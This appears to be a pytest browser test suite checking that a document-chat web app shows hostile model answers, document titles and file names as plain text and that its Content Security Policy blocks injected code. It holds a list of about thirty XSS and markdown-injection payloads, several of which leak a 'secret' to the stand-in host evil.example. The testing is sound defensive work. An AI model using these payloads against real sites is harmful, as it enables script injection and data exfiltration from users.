"""FAULTS S6: what models, documents and file names say is shown as text; nothing of it runs, loads or links."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.browser.conftest import OpenPage
from tests.browser.hostile_model import HostileModel
from tests.browser.sample import sample_workspace
from tests.browser.steps import ask, expect, open_source, probe
from tests.browser.stub_service import StubService, answered, citation, streamed
from tests.browser.stub_service import chunk as piece
from tests.browser.stub_service import last as final
from tests.serving.service_process import ServiceProcess

pytestmark = pytest.mark.browser

ATTACKS = (
    '<script>alert("s1")</script>',
    "<img src=x onerror=alert('s2')>",
    '<img src="http://evil.example/pixel.png?q=secret">',
    "<svg/onload=alert('s3')>",
    "<svg><script>alert('s4')</script></svg>",
    "[click](javascript:alert('s5'))",
    "[click](http://evil.example/?leak=secret)",
    "![pixel](http://evil.example/pixel.png?q=secret)",
    "<javascript:alert('s6')>",
    "<http://evil.example/auto>",
    "[ref]: http://evil.example/ 'title'",
    "<a href=\"javascript:alert('s7')\" onclick=alert('s7')>x</a>",
    "<iframe srcdoc=\"<script>parent.alert('s8')</script>\"></iframe>",
    '<iframe src="http://evil.example/frame"></iframe>',
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<style>@import url(http://evil.example/a.css); body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/b.css>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus onfocus=alert('s9')>x</button></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert('s10')></style></math>",
    "<details open ontoggle=alert('s11')>",
    "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "</textarea></title></script><script>alert('s12')</script>",
    "`<img src=x onerror=alert('s13')>`",
    "```html\n<script>alert('s14')</script>\n```",
    "| <img src=x onerror=alert('s15')> | b |\n|--|--|\n| <svg onload=alert('s16')> | [x](javascript:alert('s17')) |",
    "&lt;script&gt;alert('s18')&lt;/script&gt; &#60;img src=x onerror=alert('s19')&#62;",
    "${alert('s20')} {{constructor.constructor('alert(1)')()}}",
    "\u202eevil\u202c \u2066hidden\u2069 zero\u200bwidth \U000e0041tag",
    "**<b onmouseover=alert('s21')>bold** *<i onclick=alert('s22')>it* [<img src=x onerror=alert('s23')>](x)",
)
COMPLETE = {"question": "q", "text": "t", "state": "complete", "details": {"citations": 5, "warnings": "none"}}
TEXT = "\n\n".join(ATTACKS) + "\n\nEnd.[1]"

HIDDEN = "[\\u202a-\\u202e\\u2066-\\u2069\\u200b\\u{e0000}-\\u{e007f}]"


def test_hostile_text_names_and_quotes_are_shown_as_text(stub: StubService, open_page: OpenPage) -> None:
    attack = " ".join(ATTACKS[:14])
    hostile = citation(title=attack, source=f"docs/{attack}.md", heading=[attack, ATTACKS[3]], quote=attack, start=8)
    hostile["end"] = 8 + len(attack)
    stub.text = {
        **{name: hostile[name] for name in ("document_id", "source", "title", "heading", "page")},
        "release": "r00001-stub",
        "media_type": "text/html",
        "pages": None,
        "text": f"Before: {attack} After: {TEXT}",
        "offset": 0,
        "characters": 20_000,
        "highlight": {"start": 8, "end": 8 + len(attack)},
    }
    stub.chat = lambda body: answered(TEXT, [hostile], warnings=[f"[1] {attack}", attack], release=attack)
    page = open_page(stub.base_url)
    turn = ask(page, attack)
    shown = turn.locator(".text").inner_text()
    assert '<script>alert("s1")</script>' in shown
    assert "evil.example/?leak" not in shown
    assert page.evaluate(f"text => /{HIDDEN}/u.test(text)", shown) is False
    mark = open_source(page, turn)
    assert mark.text_content() == attack
    turn.get_by_role("button", name="Bad answer").click()
    assert probe(page, "injected") == []
    page.reload()
    page.locator(".turn .made").wait_for()
    assert probe(page, "injected") == []
    assert page.url == stub.base_url + "/"


def test_hostile_text_is_harmless_at_every_moment_of_a_stream(stub: StubService, open_page: OpenPage) -> None:
    stub.chat = lambda body: streamed(*[piece(TEXT[at : at + 3]) for at in range(0, len(TEXT), 3)], final())
    page = open_page(stub.base_url)
    page.evaluate(
        """() => { window.odd = []; new MutationObserver((changes) => { for (const change of changes)
          for (const node of change.addedNodes) if (node.nodeType === 1)
            for (const one of [node, ...node.querySelectorAll('*')])
              if (/^(SCRIPT|IMG|IFRAME|A|LINK|STYLE|META|BASE|OBJECT|EMBED|FORM|MATH)$/i.test(one.tagName))
                window.odd.push(one.outerHTML.slice(0, 100)); })
          .observe(document.getElementById('turns'), { childList: true, subtree: true }); }"""
    )
    ask(page, "Attack?")
    assert page.evaluate("window.odd") == []
    assert probe(page, "injected") == []


@pytest.mark.parametrize(
    "stored",
    [
        "{nonsense",
        "null",
        '{"id": 5, "turns": []}',
        json.dumps({"id": "x", "title": ATTACKS[1], "updated": 1, "turns": [{"question": 5}]}),
        json.dumps({"id": "x", "title": ATTACKS[1], "updated": "never", "model": [], "turns": [{"question": "q"}]}),
        json.dumps({"id": "x", "title": "t", "updated": 1, "model": "", "turns": [COMPLETE]}),
    ],
)
def test_spoilt_storage_does_not_stop_the_page(stub: StubService, open_page: OpenPage, stored: str) -> None:
    page = open_page(stub.base_url)
    page.evaluate(
        "stored => { localStorage['ragpress.conversation.x'] = stored; sessionStorage['ragpress.shown'] = 'x'; }",
        stored,
    )
    page.reload()
    expect(ask(page, "Tea?").locator(".text").last).to_have_text("Hello.", use_inner_text=True)
    assert probe(page, "injected") == []


def test_an_enormous_answer_is_shown_as_plain_text(stub: StubService, open_page: OpenPage) -> None:
    stub.chat = lambda body: streamed(piece("**x** " * 100_000), final())
    page = open_page(stub.base_url)
    turn = ask(page, "Long?")
    assert turn.locator(".text p.plain").count() == 1
    assert len(turn.locator(".text").text_content()) >= 599_999


@pytest.fixture
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ServiceProcess, HostileModel]]:
    with HostileModel() as model:
        settings = f'\n[generator]\nkind = "openai"\nbase_url = "{model.base_url}"\nmodel = "hostile"\n'
        workspace = sample_workspace(tmp_path_factory.mktemp("hostile"), settings)
        with ServiceProcess(workspace.root) as service:
            yield service, model


@pytest.mark.process
def test_a_hostile_model_and_hostile_documents_through_the_real_service(
    attacked: tuple[ServiceProcess, HostileModel], open_page: OpenPage
) -> None:
    service, model = attacked
    page: Any = open_page(service.base_url)
    model.text = "The lantern oil is changed every 90 days.[1]\n\n" + TEXT
    turn = ask(page, "How often is the lantern oil changed?")
    expect(turn.locator(".text")).to_contain_text("90 days", use_inner_text=True)
    assert probe(page, "injected") == []
    mark = open_source(page, turn)
    assert "lantern oil" in mark.text_content()
    expect(page.locator("#passage-place")).to_contain_text("<img src=x onerror=alert(1)>.md", use_inner_text=True)
    assert probe(page, "injected") == []
    page.reload()
    page.locator(".turn .made").wait_for()
    assert probe(page, "injected") == []


def test_the_page_lets_no_foreign_code_run_even_if_it_were_there(service: ServiceProcess, browser: Any) -> None:
    context = browser.new_context()
    try:
        page = context.new_page()
        refused: list[str] = []
        page.on("console", lambda message: refused.append(message.text))
        page.goto(service.base_url)
        page.evaluate(
            """() => { const script = document.createElement('script'); script.textContent = 'window.ran = true';
              document.body.append(script); document.body.insertAdjacentHTML('beforeend',
              '<img src=x onerror="window.ran = true"><img src="http://evil.example/x.png">'); }"""
        )
        page.wait_for_function("() => document.images[document.images.length - 1].complete")
        assert page.evaluate("window.ran") is None
        assert sum("Content Security Policy" in text for text in refused) >= 2
    finally:
        context.close()
